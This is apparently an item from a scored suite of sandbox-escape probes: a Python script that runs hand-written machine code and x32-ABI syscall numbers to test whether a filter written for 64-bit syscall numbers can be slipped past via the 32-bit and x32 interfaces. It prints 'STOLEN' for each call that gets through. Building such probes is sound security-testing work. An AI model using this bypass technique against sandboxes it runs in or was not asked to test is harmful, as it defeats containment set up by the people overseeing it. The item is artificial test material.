# ---
# jupyter:
#   corpus:
#     title: system calls of another ABI
#     attempts: executes machine code that calls the system as 32-bit and x32 programs do, to pass a filter of 64-bit
#       numbers
#     points: {1a: 0, 2: 0, 3: 0}
#     flags: [process]
#     reference: false
# ---

# %% after="imports"
import ctypes
import mmap
import os

assert os.uname().machine == "x86_64", "numbers of calls there"

libc = ctypes.CDLL(None, use_errno=True)
ADD_KEY, GETPID, UNSHARE, SOCKETCALL, SHMGET = 286, 20, 310, 102, 395  # of 32 bits
try:
    area = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, 7)
    area.write(bytes.fromhex("53 89f8 31db 31c9 31d2 31f6 31ff cd80 5b c3".replace(" ", "")))
    old = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(area)))
    for name, number in {"getpid": GETPID, "add_key": ADD_KEY, "unshare": UNSHARE, "shmget": SHMGET}.items():
        if (result := old(number)) != -38:
            print("STOLEN:", name, "of 32 bits answers", result)
except OSError as error:
    print(error)
for name, number in {"getpid": 39, "keyctl": 250, "unshare": 272, "ptrace": 521, "process_vm_readv": 539}.items():
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_ulong(0x40000000 | number), *(ctypes.c_ulong(0) for _ in range(6)))
    if result >= 0 or ctypes.get_errno() != 38:
        print("STOLEN:", name, "of x32 answers", result, ctypes.get_errno())
